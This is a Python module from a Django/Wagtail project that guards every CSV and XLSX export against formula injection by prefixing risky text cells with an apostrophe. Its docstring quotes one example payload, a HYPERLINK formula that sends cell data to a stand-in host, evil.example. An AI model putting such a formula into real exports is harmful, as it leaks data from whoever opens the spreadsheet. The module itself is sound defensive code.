"""The one export path for every spreadsheet (CSV or XLSX) Atelier writes.

A spreadsheet runs a text cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
reads a leading tab or carriage return the same way; a customer's name such as
``=HYPERLINK("http://evil.example/?d="&A2,"Open")`` would otherwise run on the desk of whoever
opens the export (CSV or formula injection, OWASP). ``neutralise_formula`` prefixes such text with
an apostrophe, which spreadsheets read as "this is text". Typed cells (numbers, decimals, dates)
are never touched: a negative amount stays a number, only the text "-5" becomes "'-5".

Every exporter goes through it:

- Wagtail listings (``ModelViewSet.list_export``, the index views' "Download CSV/XLSX"): their
  index view is built on ``SafeIndexView`` or ``SafeSpreadsheetExportMixin``;
- Wagtail's own listings that export (the Reports menu, redirects): ``project.urls`` shadows them
  with the same views made safe by ``safe_export_urlpatterns``;
- django-import-export resources: ``SafeModelResource`` or ``SafeResourceMixin``.

``tests/project/core/test_exports.py`` fails when a listing or a resource exports without them.
"""

from __future__ import annotations

from functools import update_wrapper

from django.urls import URLPattern
from django.views.decorators.cache import never_cache
from import_export import resources, widgets
from wagtail.admin.auth import require_admin_access
from wagtail.admin.views.generic import IndexView
from wagtail.admin.views.mixins import SpreadsheetExportMixin

# What makes a spreadsheet read a text cell as a formula when it comes first (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """``value`` with an apostrophe in front when it is text a spreadsheet would run as a formula;
    anything else (numbers, dates, ``None``, safe text) unchanged.

    Text whose first non-blank character is a trigger is neutralised too: spreadsheets can trim
    leading spaces on import (LibreOffice's "Trim spaces"), which brings the trigger to the front.
    """
    if isinstance(value, str) and (
        value.startswith(FORMULA_TRIGGERS) or value.lstrip().startswith(FORMULA_TRIGGERS)
    ):
        return "'" + value
    return value


# --- Wagtail listings -----------------------------------------------------------------------------


class SafeSpreadsheetExportMixin(SpreadsheetExportMixin):
    """Wagtail's spreadsheet export with every text cell and heading neutralised, in both formats.

    Put it before the view it makes safe (``class V(SafeSpreadsheetExportMixin, IndexView)``).
    Override ``to_row_dict`` or ``preprocess_field_value`` freely: what they return still passes
    through ``neutralise_formula`` here."""

    def preprocess_field_value(self, field, value, export_format):
        return neutralise_formula(super().preprocess_field_value(field, value, export_format))

    def get_heading(self, queryset, field):
        # Headings can be admin-edited labels (a form's fields), as open to formulas as values.
        return neutralise_formula(super().get_heading(queryset, field))


class SafeIndexView(SafeSpreadsheetExportMixin, IndexView):
    """The index view of every Atelier listing that exports (``ModelViewSet.index_view_class``)."""


def safe_export_view(view_class: type) -> type:
    """``view_class`` with ``SafeSpreadsheetExportMixin`` in front (itself when it has it)."""
    if issubclass(view_class, SafeSpreadsheetExportMixin):
        return view_class
    return type(
        f"Safe{view_class.__name__}",
        (SafeSpreadsheetExportMixin, view_class),
        {"__module__": __name__, "__doc__": view_class.__doc__},
    )


def safe_export_urlpatterns(urlpatterns, replacements: dict | None = None) -> list[URLPattern]:
    """The exporting views among ``urlpatterns`` (a Wagtail admin URLconf's), with the same routes
    and arguments, made safe. Included before Wagtail's admin URLs under the same prefix, they
    answer those routes instead of Wagtail's views; Wagtail's names still reverse to them.
    ``replacements`` maps a Wagtail view class to the one answering in its place (made safe too),
    for a view that must also be narrowed (the site history to the user's stores).

    Wagtail's admin wraps its views in ``require_admin_access`` and ``never_cache``; these get the
    same."""
    patterns = []
    for pattern in urlpatterns:
        if not isinstance(pattern, URLPattern):
            continue
        view_class = getattr(pattern.callback, "view_class", None)
        if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
            continue
        view_class = (replacements or {}).get(view_class, view_class)
        view = safe_export_view(view_class).as_view(**pattern.callback.view_initkwargs)
        callback = never_cache(update_wrapper(require_admin_access(view), view))
        patterns.append(URLPattern(pattern.pattern, callback, pattern.default_args))
    return patterns


# --- django-import-export -------------------------------------------------------------------------

# Widgets that render a typed value (a number, a date, a yes/no), never free text: their cells are
# left as they are, so "-5" from an IntegerWidget stays the number -5 in the spreadsheet.
TYPED_WIDGETS = (
    widgets.NumberWidget,
    widgets.DateWidget,
    widgets.DateTimeWidget,
    widgets.TimeWidget,
    widgets.DurationWidget,
    widgets.BooleanWidget,
)


class SafeResourceMixin:
    """For a django-import-export ``Resource``: every exported text cell and heading neutralised,
    whatever the format (CSV, XLSX, ODS…). Values of typed widgets are left alone, unless a
    ``dehydrate_<field>`` method made them (that can return any text)."""

    def export_field(self, field, instance, **kwargs):
        value = super().export_field(field, instance, **kwargs)
        if isinstance(field.widget, TYPED_WIDGETS) and not self._is_dehydrated(field):
            return value
        return neutralise_formula(value)

    def _is_dehydrated(self, field) -> bool:
        method = field.get_dehydrate_method(self.get_field_name(field))
        return callable(method) or callable(getattr(self, method, None))

    def get_export_headers(self, selected_fields=None):
        return [
            neutralise_formula(heading)
            for heading in super().get_export_headers(selected_fields=selected_fields)
        ]


class SafeModelResource(SafeResourceMixin, resources.ModelResource):
    """The base of every Atelier ``ModelResource`` (``<app>/resources.py``)."""
